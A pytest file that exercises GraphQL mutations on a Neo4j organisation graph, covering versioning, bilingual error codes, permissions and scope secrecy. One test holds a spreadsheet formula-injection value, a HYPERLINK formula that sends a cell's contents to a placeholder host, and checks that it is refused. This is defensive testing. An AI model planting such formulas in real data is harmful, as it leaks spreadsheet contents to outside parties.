"""The Mutation type run through a schema: arguments, payloads, coded and translated errors."""

from __future__ import annotations

import asyncio
from types import SimpleNamespace
from typing import Any

import strawberry
from neo4j import Driver

from api.mutations import Mutation
from services.exchange.exporter import read_graph
from tests.support.factory import table_rows

Graph = tuple[Driver, str]


@strawberry.type
class Query:
    ok: bool = True


SCHEMA = strawberry.Schema(query=Query, mutation=Mutation)


def _run(g: Graph, document: str, **context: Any) -> Any:
    # A context shaped like the app's (a principal) or a plain one (a role); editor by default.
    who = {} if "principal" in context else {"role": "editor"}
    ctx = SimpleNamespace(driver=g[0], database=g[1], **{**who, **context})
    return asyncio.run(SCHEMA.execute(document, context_value=ctx))


def test_create_then_update_with_versions(loaded: Graph) -> None:
    created = _run(
        loaded,
        """mutation { createOrganisation(input: {id: "B9", name: "新支部",
        kind: "党支部", parentId: "S1", termStart: "2024-03-01"}) { id version } }""",
    )
    assert created.errors is None
    assert created.data == {"createOrganisation": {"id": "B9", "version": 1}}
    updated = _run(
        loaded,
        """mutation { updateOrganisation(id: "B9", expectedVersion: 1,
        changes: {fullMembers: 9, domain: null}) { id version } }""",
    )
    assert updated.data == {"updateOrganisation": {"id": "B9", "version": 2}}


def test_posts_and_links_return_their_rows(loaded: Graph) -> None:
    appointed = _run(
        loaded,
        """mutation { appointPost(personId: "P3", targetId: "B2",
        role: "书记", start: "2024-07-01") { personId targetId role start end version } }""",
    )
    assert appointed.data == {"appointPost": {"personId": "P3", "targetId": "B2",
        "role": "SECRETARY", "start": "2024-07-01", "end": None, "version": 1}}  # fmt: skip
    ended = _run(
        loaded,
        """mutation { endPost(personId: "P3", targetId: "B2", role: "SECRETARY",
        start: "2024-07-01", end: "2024-12-31", expectedVersion: 1) { end version } }""",
    )
    assert ended.data == {"endPost": {"end": "2024-12-31", "version": 2}}
    unlinked = _run(
        loaded,
        """mutation { unlinkUnit(organisationId: "B1", unitId: "U1")
        { organisationId unitId form version } }""",
    )
    assert unlinked.data == {
        "unlinkUnit": {"organisationId": "B1", "unitId": "U1", "form": "OWN", "version": 1}
    }  # imported rows start at 1; fmt: skip


def _error(result: Any) -> tuple[str, str]:
    assert result.errors, result
    error = result.errors[0]
    return error.message, error.extensions["code"]


def test_errors_carry_a_code_and_a_message_in_either_language(loaded: Graph) -> None:
    move = 'mutation { moveOrganisation(id: "C1", newParentId: "T1") { id } }'
    assert _error(_run(loaded, move)) == ("上级组织编码 值“T1”：上级关系形成循环：C1 → T1 → C1",
                                          "BAD_USER_INPUT")  # fmt: skip
    assert _error(_run(loaded, move, lang="en")) == (
        'parentId, value "T1": the parent links form a cycle: C1 → T1 → C1',
        "BAD_USER_INPUT",
    )
    unknown = 'mutation { moveOrganisation(id: "NOPE", newParentId: "T1") { id } }'
    assert _error(_run(loaded, unknown, lang="en")) == (
        'id, value "NOPE": no organisation has this id',
        "NOT_FOUND",
    )
    stale = (
        'mutation { updateOrganisation(id: "B1", changes: {name: "x"}, expectedVersion: 4) { id } }'
    )
    assert _error(_run(loaded, stale))[1] == "CONFLICT"


def test_names_that_would_run_as_formulas_are_refused(loaded: Graph) -> None:
    before = read_graph(driver=loaded[0], database=loaded[1])
    create = """mutation { createOrganisation(input: {id: "B9", kind: "BRANCH", parentId: "S1",
        name: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"点此\\")"}) { id } }"""
    assert _error(_run(loaded, create, lang="en")) == (
        'name, value "=HYPERLINK("http://x.example/?"&A1,"点此")": would run as a spreadsheet '
        "formula (it starts with =, +, - or @); remove that sign",
        "BAD_USER_INPUT",
    )
    update = 'mutation { updateOrganisation(id: "B1", changes: {name: "@SUM(A1)"}) { id } }'
    assert _error(_run(loaded, update)) == (
        "组织名称 值“@SUM(A1)”：会被电子表格当作公式执行（以 =、+、-、@ 开头），请删去开头的符号",
        "BAD_USER_INPUT",
    )
    assert table_rows(read_graph(driver=loaded[0], database=loaded[1])) == table_rows(before)


def test_viewers_are_forbidden_and_out_of_scope_reads_as_unknown(loaded: Graph) -> None:
    visit = """mutation { recordVisit(personId: "P2", organisationId: "B3", date: "2024-07-01")
        { version } }"""
    assert _error(_run(loaded, visit, role="viewer"))[1] == "FORBIDDEN"
    viewer = SimpleNamespace(role="viewer", scope_id=None)
    assert _error(_run(loaded, visit, principal=viewer))[1] == "FORBIDDEN"
    editor = SimpleNamespace(role="editor", scope_id=None, token_id="tok_x")
    assert _run(loaded, visit, principal=editor).data == {"recordVisit": {"version": 1}}
    outside = _error(_run(loaded, visit, scope_id="T1", lang="en"))
    unknown = _error(_run(loaded, visit.replace("B3", "B404"), scope_id="T1", lang="en"))
    assert outside == ('organisationId, value "B3": no organisation has this id', "NOT_FOUND")
    assert unknown == (outside[0].replace("B3", "B404"), "NOT_FOUND")
    again = visit.replace("2024-07-01", "2024-07-02").replace("P2", "P4")
    assert _run(loaded, again, scope_id="S1").data == {"recordVisit": {"version": 1}}


def test_a_scoped_editor_learns_nothing_of_what_lies_outside(loaded: Graph) -> None:
    create = 'mutation { createOrganisation(input: {id: "%s", name: "新支部", kind: "党支部", ' \
        'parentId: "T1"}) { id } }'  # fmt: skip
    # Taken outside the scope by an organisation, by a person, or inside it: one answer.
    refusals = {i: _error(_run(loaded, create % i, scope_id="T1", lang="en")) for i in
                ("S1", "P4", "B1")}  # fmt: skip
    for taken, refusal in refusals.items():
        assert refusal == (f'id, value "{taken}": this id is not available; choose another',
                           "BAD_USER_INPUT")  # fmt: skip
    # The scope's top cannot change kind: the parent above would decide, and it stays unnamed.
    rekind = 'mutation { updateOrganisation(id: "T1", changes: {kind: "党小组"}) { id } }'
    message, code = _error(_run(loaded, rekind, scope_id="T1", lang="en"))
    assert code == "FORBIDDEN"
    assert "C1" not in message
    assert "C1" in _error(_run(loaded, rekind, lang="en"))[0]  # unscoped: the parent is named
    # A post held by someone outside the scope: refused without naming them.
    outside_holder = 'mutation { appointPost(personId: "P1", targetId: "B2", role: "书记", ' \
        'start: "2024-07-01") { version } }'  # fmt: skip
    assert _run(loaded, outside_holder).errors is None
    appoint = 'mutation { appointPost(personId: "P2", targetId: "%s", role: "书记", ' \
        'start: "2024-01-01") { version } }'  # fmt: skip
    message, _ = _error(_run(loaded, appoint % "B2", scope_id="T1", lang="en"))
    assert message == 'role, value "SECRETARY": someone holds this post during that period; ' \
        "end that post first"  # fmt: skip
    message, _ = _error(_run(loaded, appoint % "B1", scope_id="T1"))
    assert message.endswith("P3 在此期间已担任该职务，请先结束其任职")  # inside: named
